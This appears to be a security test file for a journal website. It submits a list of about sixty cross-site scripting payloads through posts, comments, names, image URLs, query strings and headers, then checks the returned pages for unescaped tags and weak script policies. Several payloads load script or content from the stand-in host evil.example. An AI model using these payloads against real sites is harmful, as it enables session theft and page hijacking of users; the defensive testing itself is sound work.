import { buildPost } from '@fabrica/test-peers/author.ts';
import { type AttackClass, type Attempt, pairs } from '../attack.ts';
import { faultOf, type Received, type Sent } from '../exchange.ts';
import type { Target } from '../target.ts';

/** Marks: each stands in a page as text only, never as a tag or an attribute. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '</script><script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>alert(1)</script>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '</title><img src=x onerror=alert(1)>',
  '</textarea><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '</noscript><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<object data=javascript:alert(1)>',
  '<embed src=//evil.example/>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example/><button>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '![x" onerror="alert(1)](x.png)',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '```html\n<script>alert(1)</script>\n```',
  '# <script>alert(1)</script>',
  '> <img src=x onerror=alert(1)>',
  '- <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '\x24{alert(1)}',
  '\u2028alert(1)//',
  '"}];alert(1)//',
  '</script >alert(1)',
  '<!--<script>alert(1)',
  '<plaintext>',
  '<xmp><script>alert(1)</script></xmp>',
];

/** Elements that the site's own pages have none of. */
const FOREIGN_TAG =
  /<(?:iframe|object|embed|base|plaintext|xmp|math|animate|set|frameset|applet|foreignobject)\b|<meta[^>]* http-equiv|<script[^>]*>\s*alert\(|<[a-z][^>]*\son[a-z]+\s*=/i;
/** Attributes whose value is a URL. */
const URL_ATTRIBUTE = /^(?:href|src|action|formaction|data|srcset|poster|xlink:href|srcdoc|imagesrcset)$/;
const HARMFUL_URL = /^(?:javascript|vbscript|data:text)/i;
/** A link may lead to another site; nothing is loaded from there. */
const FOREIGN_URL = /^(?:https?:)?[\\/]{2}evil\.example/i;

/** Attempts to have a text run as a script, or load something, in the page that shows it. */
export function scriptsInPages(target: Target): AttackClass {
  const { attackers, victim, belongings } = target;
  const author = attackers.author;
  const view = (path: string, headers = {}) => target.send(undefined, { path, headers });

  const published = SCRIPTS.map(
    (script, index): Attempt => ({
      what: `a post with ${JSON.stringify(script)}`,
      async run() {
        const id = `post_9${Date.now()}${index}`;
        const texts = Object.fromEntries(
          ['title', 'content', 'title_de', 'content_de', 'title_en', 'content_en'].map((name) => [
            name,
            script,
          ]),
        );
        const row = buildPost({ id: author?.id ?? '' }, { ...texts, id });
        const created = await target.send(author, {
          method: 'POST',
          path: '/api/db/journal/rest/v1/journal_posts',
          body: row,
        });
        if (created.status !== 201) return faultOf(created);
        const pages = [
          `/post/${id}`,
          `/post/${id}?lang=de`,
          '/gallery',
          `/gallery?search=${encodeURIComponent(script)}`,
          `/post/${id}.data`,
          '/sitemap.xml',
          '/feed.xml',
        ];
        let weakness: string | undefined;
        for (const path of pages) weakness ??= judge(await view(path));
        await author?.rest('DELETE', `journal_posts?id=eq.${id}`);
        return weakness;
      },
    }),
  );

  const commented = SCRIPTS.map(
    (content): Attempt => ({
      what: `a comment with ${JSON.stringify(content)}`,
      async run() {
        const { post } = belongings;
        const created = await target.send(author, {
          method: 'POST',
          path: '/api/db/journal/rest/v1/post_comments',
          headers: { prefer: 'return=representation' },
          body: { post_id: post, user_id: author?.id, content },
        });
        if (created.status !== 201) return faultOf(created);
        const weakness =
          judge(await view(`/post/${post}?comments=open`)) ?? judge(await view(`/post/${post}`));
        const [row] = JSON.parse(created.text) as { id: string }[];
        await author?.rest('DELETE', `post_comments?id=eq.${row?.id}`);
        return weakness;
      },
    }),
  );

  const named = SCRIPTS.map(
    (displayName): Attempt => ({
      what: `the name ${JSON.stringify(displayName)}`,
      async run() {
        const changed = await target.send(author, {
          method: 'PATCH',
          path: '/api/auth/me',
          body: { displayName },
        });
        if (changed.status !== 200) return faultOf(changed);
        return judge(await view(`/gallery?search=${encodeURIComponent(displayName)}`));
      },
    }),
  );

  const pictures = SCRIPTS.map(
    (script): Attempt => ({
      what: `an image by ${JSON.stringify(script)}`,
      async run() {
        const body = buildPost({ id: author?.id ?? '' }, { image_url: `/${script}` });
        const created = await target.send(author, {
          method: 'POST',
          path: '/api/db/journal/rest/v1/journal_posts',
          body,
        });
        if (created.status !== 201) return faultOf(created);
        const weakness = judge(await view(`/post/${body.id}`));
        await author?.rest('DELETE', `journal_posts?id=eq.${body.id}`);
        return weakness;
      },
    }),
  );

  const reflected = pairs(REFLECTING, SCRIPTS).map(
    ([reflect, script]): Attempt => ({
      what: `${JSON.stringify(script)} in ${reflect('…').path}`,
      run: async () => judge(await target.send(undefined, reflect(script))),
    }),
  );

  const stranger: Attempt = {
    what: 'an author’s page for the victim',
    run: async () => judge(await view(`/gallery?search=${encodeURIComponent(victim.id)}`)),
  };
  return {
    name: 'scripts in pages',
    attempts: [...published, ...commented, ...named, ...pictures, ...reflected, stranger],
    concurrency: 3,
  };
}

const encode = encodeURIComponent;

/** Requests whose text could come back in the page. */
const REFLECTING: ((script: string) => Sent)[] = [
  (script) => ({ path: `/gallery?search=${encode(script)}` }),
  (script) => ({ path: `/gallery?lang=${encode(script)}` }),
  (script) => ({ path: `/gallery?cursor=${encode(script)}` }),
  (script) => ({ path: `/post/${encode(script)}` }),
  (script) => ({ path: `/${encode(script)}` }),
  (script) => ({ path: `/auth?redirect_url=${encode(script)}` }),
  (script) => ({ path: `/auth?state=${encode(script)}&mode=popup&opener_origin=${encode(script)}` }),
  (script) => ({ path: `/auth?project_id=${encode(script)}&redirect_url=https%3A%2F%2Fevil.example` }),
  (script) => ({ path: `/auth?view=${encode(script)}&provider=${encode(script)}` }),
  (script) => ({ path: `/auth/magic?token=${encode(script)}` }),
  (script) => ({ path: `/auth/reset?token=${encode(script)}` }),
  (script) => ({ path: `/auth/verify?token=${encode(script)}&email=${encode(script)}` }),
  (script) => ({ path: `/auth/complete?done=${encode(script)}&code=${encode(script)}` }),
  (script) => ({ path: `/auth/notices?token=${encode(script)}` }),
  (script) => ({ path: '/gallery', headers: { cookie: `fabrica_language=${encode(script)}` } }),
  (script) => ({ path: '/gallery', headers: { 'user-agent': script.replace(/[^ -~]/g, '_') } }),
];

/** Looks for the text as anything but text, and for a policy that would let it run. */
export function judge(received: Received): string | undefined {
  const { text, headers, status } = received;
  const fault = faultOf(received);
  if (fault !== undefined) return fault;
  const type = String(headers['content-type'] ?? '');
  if (status >= 300 && status < 400) return undefined;
  if (!type.startsWith('text/html')) {
    return headers['x-content-type-options'] === 'nosniff' || /xml|plain|json/.test(type)
      ? undefined
      : `browsers may take ${type} for a page`;
  }
  const made = findMade(text);
  if (made !== undefined) return `the page has ${made.slice(0, 80)}`;
  const policy = String(headers['content-security-policy']);
  const scripts = /script-src ([^;]*)/.exec(policy)?.[1] ?? "'unsafe-inline'";
  return /unsafe|\*|https?:|data:/.test(scripts) ? `the policy allows ${scripts}` : undefined;
}

/** Returns a tag or an attribute that a text has become. React writes all values in quotation marks and escapes those. */
function findMade(page: string): string | undefined {
  const html = page.replace(/<style>[\s\S]*?<\/style>/g, '');
  for (const [, name = '', value = ''] of html.matchAll(/\s([\w:-]+)="([^"]*)"/g)) {
    const plain = value
      .replaceAll('&amp;', '&')
      .replace(/&#(\d+);/g, (_, code) => String.fromCharCode(Number(code)));
    const url = URL_ATTRIBUTE.test(name) ? plain.replace(/[\s\p{Cc}]/gu, '') : '';
    const isHarmful = HARMFUL_URL.test(url) || (name !== 'href' && FOREIGN_URL.test(url));
    if (isHarmful || /^on[a-z]/.test(name)) return `${name}="${value}"`;
  }
  const loaded = /<link[^>]* href="(?:https?:)?\/\/evil[^>]*/.exec(html)?.[0];
  return loaded ?? FOREIGN_TAG.exec(html.replace(/="[^"]*"/g, '=""'))?.[0];
}
